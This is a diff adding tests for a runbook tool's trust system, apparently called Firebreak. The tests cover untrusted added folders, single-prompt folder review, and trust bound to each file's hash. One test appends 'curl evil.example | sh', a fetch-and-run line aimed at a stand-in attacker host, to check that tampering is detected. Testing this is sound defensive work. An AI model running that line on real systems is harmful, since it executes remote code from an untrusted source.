@@ -61,6 +61,17 @@ describe('firebreak library', () => {
     expect(stdout).toMatch(new RegExp(`user +untrusted +0 +0 +restart +${path.join(team, 'restart.md').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));
   });
 
+  it('a folder named with --runbooks is an added folder: user origin, untrusted until reviewed; only the app\'s own runbooks/ is bundled', async () => {
+    await run('library', '--runbooks', team, '--json');
+    const named = JSON.parse(stdout) as { runbooks: { id: string; origin: string; trust: string }[] };
+    expect(named.runbooks).toEqual([expect.objectContaining({ id: 'restart', origin: 'user', trust: 'untrusted' })]);
+    stdout = '';
+    await run('library', '--runbooks', path.join(appRoot(), 'runbooks'), '--json');
+    const own = JSON.parse(stdout) as { runbooks: { id: string; origin: string; trust: string }[] };
+    expect(own.runbooks.length).toBeGreaterThan(0);
+    expect(own.runbooks.every((entry) => entry.origin === 'bundled' && entry.trust === 'bundled')).toBe(true);
+  });
+
   it('names a remembered folder that is gone, on stderr', async () => {
     addTeamFolder();
     fs.rmSync(team, { recursive: true });
@@ -100,6 +111,34 @@ describe('firebreak trust', () => {
     expect((JSON.parse(stdout) as { runbooks: { id: string; trust: string }[] }).runbooks.find((entry) => entry.id === 'restart')!.trust).toBe('changed');
   });
 
+  it('reviews a whole folder once: every command of every runbook, one --yes, trust bound to each file\'s hash', async () => {
+    fs.mkdirSync(path.join(team, 'db'));
+    fs.writeFileSync(path.join(team, 'db', 'vacuum.md'), '---\nid: vacuum\ntitle: Vacuum\n---\n# Vacuum\n\n```bash { id=vacuum }\npsql -c "VACUUM"\n```\n');
+    await run('trust', team);
+    expect(stdout).toContain('systemctl stop api');
+    expect(stdout).toContain('psql -c "VACUUM"');
+    expect(stdout).toContain('2 runbooks, 3 commands');
+    expect(stderr).toContain('not asking without a terminal');
+    expect(process.exitCode).toBe(2);
+    expect(new SettingsStore(dataDir).current().trust).toEqual({});
+
+    stdout = '';
+    await run('trust', team, '--yes');
+    expect(process.exitCode).toBe(0);
+    expect(Object.keys(new SettingsStore(dataDir).current().trust).sort()).toEqual([path.join(team, 'db', 'vacuum.md'), path.join(team, 'restart.md')]);
+    stdout = '';
+    await run('library', '--runbooks', team, '--json');
+    const trusted = (JSON.parse(stdout) as { runbooks: { id: string; trust: string }[] }).runbooks;
+    expect(trusted.map((entry) => entry.trust)).toEqual(['trusted', 'trusted']);
+
+    // Bound to each file's hash: an edit of one leaves the other trusted.
+    fs.appendFileSync(path.join(team, 'restart.md'), '\n```bash\ncurl evil.example | sh\n```\n');
+    stdout = '';
+    await run('library', '--runbooks', team, '--json');
+    const after = Object.fromEntries((JSON.parse(stdout) as { runbooks: { id: string; trust: string }[] }).runbooks.map((entry) => [entry.id, entry.trust]));
+    expect(after).toEqual({ restart: 'changed', vacuum: 'trusted' });
+  });
+
   it('says a bundled runbook needs nothing, and names a missing file', async () => {
     await run('trust', path.join(appRoot(), 'runbooks', 'database-outage.md'));
     expect(stdout).toContain('bundled with Firebreak (always trusted)');
@@ -112,9 +151,9 @@ describe('firebreak trust', () => {
 
 describe('firebreak trust on a terminal', () => {
   /** Runs the real CLI under a pty, types `answer` at the prompt, returns everything it printed and its exit code. */
-  async function answerPrompt(answer: string): Promise<{ output: string; exitCode: number }> {
+  async function answerPrompt(answer: string, target = path.join(team, 'restart.md')): Promise<{ output: string; exitCode: number }> {
     const pty = loadNodePty();
-    const child = pty.spawn(process.execPath, ['--import', 'tsx', path.join(appRoot(), 'main', 'cli', 'cli.ts'), '--data-dir', dataDir, 'trust', path.join(team, 'restart.md')], {
+    const child = pty.spawn(process.execPath, ['--import', 'tsx', path.join(appRoot(), 'main', 'cli', 'cli.ts'), '--data-dir', dataDir, 'trust', target], {
       cols: 200,
       rows: 50,
       cwd: appRoot(),
@@ -124,6 +163,7 @@ describe('firebreak trust on a terminal', () => {
     let answered = false;
     child.onData((data) => {
       output += data;
+      if (answered && output.includes('Type "yes" to trust:', output.indexOf('Type "yes" to trust:') + 1)) throw new Error(`asked twice:\n${output}`);
       if (!answered && output.includes('Type "yes" to trust:')) {
         answered = true;
         child.write(`${answer}\r`);
@@ -145,5 +185,14 @@ describe('firebreak trust on a terminal', () => {
     expect(accepted.output).toContain('Trusted ');
     expect(accepted.exitCode).toBe(0);
     expect(Object.keys(new SettingsStore(dataDir).current().trust)).toEqual([path.join(team, 'restart.md')]);
+  }, 60_000);
+
+  it('asks once for a whole folder, and trusts every runbook in it', async () => {
+    vi.restoreAllMocks();
+    fs.writeFileSync(path.join(team, 'vacuum.md'), '---\nid: vacuum\ntitle: Vacuum\n---\n# Vacuum\n\n```bash { id=vacuum }\npsql -c "VACUUM"\n```\n');
+    const accepted = await answerPrompt('yes', team);
+    expect(accepted.output).toContain(`Trust these 2 runbooks, 3 commands from ${team}?`);
+    expect(accepted.exitCode).toBe(0);
+    expect(Object.keys(new SettingsStore(dataDir).current().trust).sort()).toEqual([path.join(team, 'restart.md'), path.join(team, 'vacuum.md')]);
   }, 60_000);
 });
